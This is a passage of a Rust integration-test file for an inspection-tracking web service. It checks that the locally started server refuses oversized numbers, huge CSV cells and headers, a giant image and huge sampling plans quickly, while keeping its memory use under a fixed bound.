        assert_eq!(error_fields(&problem), ["lot_size"], "{problem}");
        assert!(
            problem["errors"][0]["message"]
                .as_str()
                .unwrap()
                .contains("1000000"),
            "{problem}"
        );
        assert!(started.elapsed().as_secs() < 5);
    }
    let (_, page) = app.get(&batches).await;
    assert_eq!(page["total"], 1, "nothing stored: {page}");

    // A lot of ten million stored before the bound.
    let legacy = common::new_batch(&app, s.order_id, 50).await;
    app.db
        .write_blocking(move |c| {
            use lotcheck::store::schema::batches::dsl::*;
            diesel::update(batches.find(legacy))
                .set(lot_size.eq(10_000_000))
                .execute(c)?;
            Ok(())
        })
        .unwrap();
    let plan = format!("/api/v1/batches/{legacy}/sampling-plan");
    let started = std::time::Instant::now();
    let response = app
        .request(reqwest::Method::POST, &plan)
        .json(&json!({"method": "percent", "percent": 100, "seed": 1}))
        .timeout(std::time::Duration::from_secs(20))
        .send()
        .await
        .expect("the plan is refused in time");
    let (status, problem) = common::read(response).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{problem}");
    assert_eq!(error_fields(&problem), ["percent"], "{problem}");
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("200000"),
        "{problem}"
    );
    assert!(started.elapsed().as_secs() < 5, "{:?}", started.elapsed());
    let (status, _) = app.get(&plan).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "no plan stored");
    // The lot can still be sampled by a plan of bounded size.
    let (drawn, units) = common::draw_plan(
        &app,
        legacy,
        json!({"method": "iso2859-1", "aql": 1.0, "seed": 1}),
    )
    .await;
    assert_eq!(drawn["lot_size"], 10_000_000);
    assert!(units.len() <= 2000, "{}", units.len());
    app.stop().await;
}

/// The real binary serving a fresh database; killed when dropped, so that
/// a failed assertion leaves no server behind.
struct Served {
    child: std::process::Child,
    http: common::Http,
    database: TestDatabase,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Served {
    async fn start() -> Served {
        let database = TestDatabase::create(Backend::Sqlite);
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let mut admin = std::process::Command::new(env!("CARGO_BIN_EXE_lotcheck"))
            .args(["user", "add", "--username", "admin", "--role", "admin"])
            .arg("--password-stdin")
            .env("DATABASE_URL", &database.url)
            .env("LOTCHECK_LOG", "warn")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::null())
            .spawn()
            .expect("lotcheck user add");
        {
            use std::io::Write;
            writeln!(admin.stdin.take().unwrap(), "{PASSWORD}").unwrap();
        }
        assert!(admin.wait().unwrap().success());
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_lotcheck"))
            .args(["serve", "--bind", &format!("127.0.0.1:{port}")])
            .args(["--workers", "2"])
            .env("DATABASE_URL", &database.url)
            .env("LOTCHECK_LOG", "error")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start lotcheck");
        let mut served = Served {
            child,
            http: common::Http::new(format!("http://127.0.0.1:{port}"), Backend::Sqlite),
            database,
        };
        for _ in 0..200 {
            let health = served.http.client.get(served.http.url("/healthz")).send();
            if health.await.is_ok_and(|r| r.status() == StatusCode::OK) {
                served.http = served.http.login("admin", PASSWORD).await;
                return served;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        panic!("lotcheck did not answer /healthz");
    }

    /// The server's peak resident memory so far, in MiB (`VmHWM`).
    fn peak_mib(&self) -> f64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        let kib: f64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .expect("VmHWM in /proc/<pid>/status");
        kib / 1024.0
    }

    /// Changes the database behind the server's back, as an older version
    /// or a hand edit would have.
    fn execute(&self, sql: &str) {
        diesel::SqliteConnection::establish(&self.database.url)
            .unwrap()
            .batch_execute(&format!("PRAGMA busy_timeout = 10000; {sql}"))
            .unwrap();
    }
}

/// Most resident memory the server may reach while refusing the hostile
/// inputs: about twice its footprint after the normal work below
/// (readings, charts, a draft report with its PDF), measured at 69 MiB
/// (debug build, two workers). Before the inputs were bounded, the 50 MB
/// cell took it to 873 MB, the 1 MB header with 200 mapping entries to
/// 1.63 GB, and a histogram of ±1e308 grew it by gigabytes without end.
const PEAK_MIB: f64 = 160.0;

/// The real server, fed one after another the hostile inputs a probe
/// found (readings of ±1e308 and those stored before they were refused,
/// then the histogram, control chart and report; a 50 MB cell; a 1 MB
/// header with 200 mapping entries; a 12,000 × 12,000 PNG; a 100% plan
/// on a lot of ten million), answers each with a 4xx in time and keeps
/// its peak resident memory under [`PEAK_MIB`]. SQLite only: what is
/// measured is the server process, whose work per request is the same on
/// either backend (PostgreSQL's memory is another process's), and the
/// readings stored "before the rule" are written into the file by a
/// second connection.
pub async fn hostile_inputs_leave_the_server_small() {
    let served = Served::start().await;
    let app = &served.http;
    let s = scenario(app, 5).await;
    let (_, first) = common::draw_plan(
        app,
        s.batch_id,
        json!({"method": "percent", "percent": 100, "seed": 1}),
    )
    .await;
    let (second, units) = batch_inspected_whole(app, s.order_id, 5).await;
    for (batch, units) in [(s.batch_id, &first), (second, &units)] {
        common::record_bulbs(app, batch, units, |i| Bulb {
            flux: 800.0 + i as f64,
            power: 9.0 + i as f64 / 10.0,
            lights_up: 0,
        })
        .await;
    }
    let (product, order) = (s.product_id, s.order_id);
    let charts = [
        format!(
            "/api/v1/batches/{}/charts/histogram.svg?characteristic=flux",
            s.batch_id
        ),
        format!("/api/v1/orders/{order}/charts/histogram.png?characteristic=flux"),
        format!(
            "/api/v1/products/{product}/charts/control-chart.svg?characteristic=flux&chart=xbar-r"
        ),
        format!("/api/v1/orders/{order}/report.pdf?draft=true"),
    ];
    for path in &charts {
        let (status, _) = get_within(app, path, 60).await;
        assert_eq!(status, StatusCode::OK, "{path}");
    }
    let normal = served.peak_mib();
    eprintln!("lotcheck peak resident memory after the normal work: {normal:.1} MiB");

    let refused = |what: &str, status: StatusCode| {
        assert!(status.is_client_error(), "{what}: {status}");
    };
    // 1. Readings of ±1e308, refused; then stored behind the server's back.
    let (third, units) = batch_inspected_whole(app, s.order_id, 5).await;
    let (status, _) = app
        .post(
            &format!("/api/v1/batches/{third}/measurements"),
            &json!({"measurements": [
                {"unit": units[0], "characteristic": "flux", "value": 1e308},
                {"unit": units[1], "characteristic": "flux", "value": -1e308}]}),
        )
        .await;
    refused("readings of ±1e308", status);
    served.execute(
        "UPDATE measurements SET value = 1e308 WHERE value > 700; \
         UPDATE measurements SET value = -1e308 WHERE value = 1e308 AND unit <= 2;",
    );
    for path in &charts {
        let (status, _) = get_within(app, path, 60).await;
        refused(path, status);
    }
    // 3. A cell of 50 MB; a header of 1 MB with 200 mapping entries.
    let mut csv = format!("unit,flux,power\n{},", units[0]).into_bytes();
    csv.extend(std::iter::repeat_n(b'7', 50 << 20));
    csv.extend_from_slice(b",9\n");
    let (status, size, _) = import(app, third, csv, &[]).await;
    refused("a cell of 50 MB", status);
    assert!(size < 4096, "{size} bytes");
    let mapping: serde_json::Map<String, Value> = (0..200)
        .map(|i| (format!("missing column {i:03}"), json!("flux")))
        .collect();
    let mut csv = b"unit,flux,".to_vec();
    csv.extend(std::iter::repeat_n(b'h', 1 << 20));
    csv.extend_from_slice(format!("\n{},806,1\n", units[0]).as_bytes());
    let (status, size, _) = import(
        app,
        third,
        csv,
        &[("mapping", Value::Object(mapping).to_string())],
    )
    .await;
    refused("a header of 1 MB and 200 mapping entries", status);
    assert!(size < 4096, "{size} bytes");
    // 4. A photo of 12,000 × 12,000 pixels.
    app.create(
        "/api/v1/defect-types",
        json!({"family": "general", "code": "scratch", "name": "Scratch", "severity": "minor"}),
    )
    .await;
    let recorded = app
        .create(
            &format!("/api/v1/batches/{third}/inspections"),
            json!({"inspections": [{"unit": units[0], "defects": [{"defect": "scratch"}]}]}),
        )
        .await;
    let inspection = recorded["inspections"][0]["id"].as_str().unwrap();
    let (status, _) = upload_photo(app, inspection, black_png(12_000, 12_000)).await;
    refused("a photo of 12,000 × 12,000 pixels", status);
    // 5. A lot of ten million, and a 100% plan on one stored before the bound.
    let (status, _) = app
        .post(
            &format!("/api/v1/orders/{order}/batches"),
            &json!({"lot_size": 10_000_000}),
        )
        .await;
    refused("a lot of ten million", status);
    let legacy = common::new_batch(app, order, 50).await;
    served.execute(&format!(
        "UPDATE batches SET lot_size = 10000000 WHERE id = {legacy}"
    ));
    let response = app
        .request(
            reqwest::Method::POST,
            &format!("/api/v1/batches/{legacy}/sampling-plan"),
        )
        .json(&json!({"method": "percent", "percent": 100}))
        .timeout(std::time::Duration::from_secs(60))
        .send()
        .await
        .expect("the plan is answered in time");
    refused("a 100% plan on ten million", response.status());

    let peak = served.peak_mib();
    eprintln!("lotcheck peak resident memory after the hostile inputs: {peak:.1} MiB");
    assert!(
        peak < PEAK_MIB,
        "peak {peak:.1} MiB (normal work: {normal:.1} MiB)"
    );
}
